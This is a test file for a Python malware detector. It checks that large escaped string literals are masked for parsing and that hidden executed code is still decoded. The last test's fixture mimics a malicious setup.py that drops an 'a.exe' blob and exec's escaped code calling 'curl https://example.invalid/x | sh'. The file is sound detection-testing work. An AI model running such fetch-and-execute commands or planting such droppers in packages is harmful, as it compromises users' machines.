import { beforeAll, describe, expect, it } from 'vitest';
import { parseText } from '../../../src/detectors/python/parse-text.js';
import type { PythonAnalyzer } from '../../../src/detectors/python/parser.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

const escaped = (s: string): string => [...Buffer.from(s, 'latin1')].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');

describe('parseText: escapes in large literals masked for the parser', () => {
  it('leaves files with few backslashes as they are', () => {
    const src = `data = b'${escaped('MZ'.repeat(100))}'\n`;
    expect(parseText(src)).toBe(src);
  });

  it('masks every escape of a large plain literal, keeping its length and where it ends', () => {
    const body = escaped('\x90\x00'.repeat(1500)) + "\\'\\\\";
    const src = `x = 1\ndata = b'${body}'\ny = "\\n"  # kept: a small literal\n`;
    const out = parseText(src);
    expect(out.length).toBe(src.length);
    const start = src.indexOf("b'") + 2;
    const masked = out.slice(start, start + body.length);
    expect(masked.includes('\\')).toBe(false);
    expect(masked.startsWith('aa90aa00')).toBe(true);
    expect(masked.endsWith('aaaa')).toBe(true);
    expect(out.slice(start + body.length)).toBe(src.slice(start + body.length));
    expect(out.slice(0, start)).toBe(src.slice(0, start));
  });

  it('keeps line continuations, f-strings and comments as written', () => {
    const many = escaped('A'.repeat(2100));
    const src = `s = '${many}\\\nrest'\nf = f'{x}${many}'\n# '${many}'\n`;
    const out = parseText(src);
    expect(out.length).toBe(src.length);
    expect(out).toContain("\\\nrest'");
    expect(out.slice(out.indexOf('\nf = '))).toBe(src.slice(src.indexOf('\nf = ')));
    expect(out.slice(0, 5 + many.length).includes('\\')).toBe(false);
  });
});

describe('python analyser on a masked file', () => {
  let analyzer: PythonAnalyzer;
  beforeAll(async () => {
    analyzer = await pythonAnalyzer();
  });

  it('reads the values of large escaped literals from the source, as before masking', () => {
    // Defanged: an executable written out as escaped bytes, and escaped code run by exec.
    const code = `${'n = 1\n'.repeat(400)}import os\nos.system('curl https://example.invalid/x | sh')\n`;
    const src = [
      'import os, tempfile',
      `blob = b'MZ${escaped('\x90\x00\x03'.repeat(1000))}'`,
      "open(os.path.join(tempfile.gettempdir(), 'a.exe'), 'wb').write(blob)",
      `exec('${escaped(code)}')`,
    ].join('\n');
    expect(parseText(src)).not.toBe(src);
    const f = analyzer.analyze('setup.py', src);
    expect(f.parseError).toBeUndefined();
    expect(f.decoded[0]?.text).toBe(code);
    expect(f.decoded[0]?.line).toBe(4);
    expect(f.decoded[0]?.facts?.calls.map((c) => [c.callee, c.line, c.args[0]?.value])).toContainEqual(['os.system', 402, 'curl https://example.invalid/x | sh']);
    const write = f.calls.find((c) => c.callee.endsWith('.write'));
    expect(write?.line).toBe(3);
  });
});
